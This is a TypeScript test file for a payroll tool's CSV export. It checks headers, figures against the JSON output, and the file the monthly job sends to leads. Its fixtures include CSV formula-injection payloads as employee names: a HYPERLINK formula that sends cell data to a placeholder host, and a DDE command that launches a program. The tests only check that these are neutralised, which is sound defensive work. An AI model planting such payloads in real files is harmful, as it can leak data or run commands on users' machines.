// The leads' payroll file: one writer for `tally payroll --csv` and the monthly job's file; safe to
// open in Excel (no formula runs), readable in Chinese Excel (BOM), headers in the team's language.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../src/db/open.js';
import { csvFile, Figure } from '../../src/export/csv.js';
import { monthlyItems } from '../../src/jobs/monthly.js';
import { runJob } from '../../src/jobs/run.js';
import { payroll } from '../../src/service/scores.js';
import { texts } from '../../src/slack/text/index.js';
import { cliOn, type CliResult, type PayrollJson } from '../support/cli.js';
import { freshDatabase, tallyOn } from '../support/db.js';

// names a roster file may carry, each of which Excel would otherwise run as a formula
const ATTACKS: Record<string, string> = {
  U00001001: '=HYPERLINK("http://x/?"&A1,"click")',
  U00001002: "+cmd|' /C calc'!A0",
  U00001003: '-2+3',
  U00001005: '@SUM(1+1)',
};

// their hire dates in examples/roster.csv: a renaming row keeps the hire date (another one is a different person)
const HIRED: Record<string, string> = {
  U00001001: '2025-05-20',
  U00001002: '2025-10-07',
  U00001003: '2024-03-02',
  U00001005: '2025-11-10',
};
const dir = mkdtempSync(join(tmpdir(), 'tally-payroll-file-'));
let db: Database;
let tally: (...argv: string[]) => Promise<CliResult>;

beforeAll(async () => {
  db = await freshDatabase();
  tally = cliOn(db);
  expect((await tally('roster', 'import', 'examples/roster.csv')).code).toBe(0);
  expect((await tally('metrics', 'import', 'examples/metrics.csv')).code).toBe(0);
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const renamed = Object.entries(ATTACKS).map(
    ([id, name]) => `${id},${quote(name)},${id === 'U00001003' ? 'aftersales' : 'presales'},regular,${HIRED[id]},agent`,
  );
  writeFileSync(join(dir, 'attack.csv'), `slack_id,name,track,level,hired_on,role\n${renamed.join('\n')}\n`);
  expect((await tally('roster', 'import', join(dir, 'attack.csv'))).code).toBe(0);
  // three store deductions: a deduction in the file, commission forfeited and a dismissal flag
  for (const day of ['2026-10-08', '2026-10-09', '2026-10-10']) {
    expect((await tally('penalty', 'add', 'U00001001', 'store_deduction', '--on', day, '--by', 'U0LEAD001')).code).toBe(
      0,
    );
  }
});
afterAll(() => db.close());

function lines(file: string): string[] {
  expect(file.startsWith('\uFEFF')).toBe(true);
  expect(file.endsWith('\r\n')).toBe(true);
  // every line ends in CRLF; a bare LF would be inside a quoted cell
  expect(file.replace(/\r\n/g, '').includes('\n')).toBe(false);
  return file.slice(1, -2).split('\r\n');
}

const cells = (file: string): string[][] => parse(file, { bom: true, record_delimiter: '\r\n' });

describe('the payroll file', () => {
  it('writes every attacking name as text, and its figures equal payroll --json', async () => {
    const file = (await tally('payroll', '--month', '2026-10', '--csv')).raw;
    const [header, ...rows] = cells(file);
    expect(lines(file)[0]).toBe(
      '客服ID,姓名,岗位,级别,得分,排名,底薪,绩效,提成,排名奖,餐补,罚款,合计,提成取消,标记开除,调仓库学习',
    );
    const json = (await tally('payroll', '--month', '2026-10', '--json')).json<PayrollJson>();
    expect(rows).toHaveLength(json.rows.length);
    const yuan = (fen: number) => (fen / 100).toFixed(2);
    json.rows.forEach((j, i) => {
      const row = Object.fromEntries(header!.map((h, k) => [h, rows[i]![k]]));
      expect(row).toEqual({
        客服ID: j.slackId,
        姓名: ATTACKS[j.slackId] ? `'${ATTACKS[j.slackId]}` : j.name,
        岗位: { presales: '售前', aftersales: '售后' }[j.track],
        级别: { trainee: '见习', regular: '正式', senior: '资深', lead: '组长', supervisor: '主管' }[j.level],
        得分: j.score === null ? '' : j.score.toFixed(2),
        排名: j.rank === null ? '' : String(j.rank),
        底薪: yuan(j.baseFen),
        绩效: yuan(j.performanceFen),
        提成: yuan(j.commissionFen),
        排名奖: yuan(j.awardFen),
        餐补: yuan(j.mealFen),
        罚款: j.penaltyFen ? `-${yuan(j.penaltyFen)}` : '0.00',
        合计: yuan(j.totalFen),
        提成取消: j.commissionForfeited ? '是' : '否',
        标记开除: j.dismissalFlag ? '是' : '否',
        调仓库学习: j.rotationFlag ? '是' : '否',
      });
    });
    // no cell of the file starts a formula; the deduction stays a number
    const first = rows.flat().map((c) => c[0]);
    expect(first.filter((c) => c !== undefined && '=+@\t\r'.includes(c))).toEqual([]);
    const attacker = rows.find((r) => r[0] === 'U00001001')!;
    expect(attacker.slice(11)).toEqual(['-1500.00', attacker[12], '是', '是', '否']);
    expect(lines(file).find((l) => l.startsWith('U00001001,'))).toMatch(
      /^U00001001,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""click""\)",售前,正式,\d+\.\d\d,\d+,[\d.]+,[\d.]+,0\.00,0\.00,300\.00,-1500\.00,-?[\d.]+,是,是,否$/,
    );
    // the JSON contract is unchanged: names as they are
    expect(json.rows.find((r) => r.slackId === 'U00001002')!.name).toBe("+cmd|' /C calc'!A0");
  });

  it('is the very file the monthly job sends the leads of a team whose policy asks for CSV', async () => {
    const csv = writeJson('csv.json', { schedule: { payrollFormat: 'csv' } });
    expect((await tally('policy', 'set', csv, '--from', '2026-11-05')).code).toBe(0);
    const before = (await tally('payroll', '--month', '2026-10', '--csv')).raw;
    const r = await runJob(tallyOn(db), 'monthly', '2026-10', { owner: 'test' });
    expect(r.status).toBe('done');
    const queued = await db.prisma.outbox.findMany({ where: { key: { startsWith: 'monthly:2026-10:csv:' } } });
    expect(queued.map((q) => q.channel).sort()).toEqual(['U0LEAD001', 'U0LEAD002', 'U0SUPER01']);
    for (const q of queued) {
      const payload = q.payload as { filename: string; base64: string };
      expect(payload.filename).toBe('payroll-2026-10.csv');
      expect(Buffer.from(payload.base64, 'base64').toString('utf8')).toBe(before);
    }
    // closed now: the frozen figures write the same file
    expect((await tally('payroll', '--month', '2026-10', '--csv')).raw).toBe(before);
  });

  it('speaks English to an English team: headers, yes/no, the same figures', async () => {
    expect(
      (await tally('policy', 'set', writeJson('en.json', { locale: 'en' }), '--from', '2026-11-05', '--replace')).code,
    ).toBe(0);
    const file = (await tally('payroll', '--month', '2026-10', '--csv')).raw;
    expect(lines(file)[0]).toBe(
      'Slack ID,Name,Track,Level,Score,Rank,Base,Performance,Commission,Award,Meal allowance,Penalties,Total,Commission forfeited,Flagged for dismissal,Warehouse rotation',
    );
    const row = cells(file).find((r) => r[0] === 'U00001001')!;
    expect(row.slice(1, 4)).toEqual(['\'=HYPERLINK("http://x/?"&A1,"click")', 'pre-sales', 'regular']);
    expect(row.slice(11)).toEqual(['-1500.00', row[12], 'yes', 'yes', 'no']);
    // the job's writer in English gives the same bytes
    const p = await payroll(tallyOn(db), '2026-10');
    const items = await monthlyItems(tallyOn(db), '2026-10', p.rows, texts('en'), null, 'en', false);
    const sent = items.find((i) => i.key.startsWith('en:csv:'))!.payload as { base64: string };
    expect(Buffer.from(sent.base64, 'base64').toString('utf8')).toBe(file);
  });
});

describe('csvFile', () => {
  it('neutralises text that starts a formula, and leaves numbers numbers', () => {
    const file = csvFile(
      ['a', '=b'],
      [
        ['=1+1', new Figure('-12.50')],
        ['\tx', '\ry'],
        ['@a', '-'],
        ['+1', null],
        ['plain', new Figure('3')],
      ],
    );
    expect(cells(file)).toEqual([
      ['a', "'=b"],
      ["'=1+1", '-12.50'],
      // a carriage return is a line feed once shown: guarded all the same
      ["'\tx", "'\ny"],
      ["'@a", "'-"],
      ["'+1", ''],
      ['plain', '3'],
    ]);
    expect(() => new Figure('=1+1')).toThrow(RangeError);
  });
});

function writeJson(name: string, value: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, JSON.stringify(value));
  return path;
}
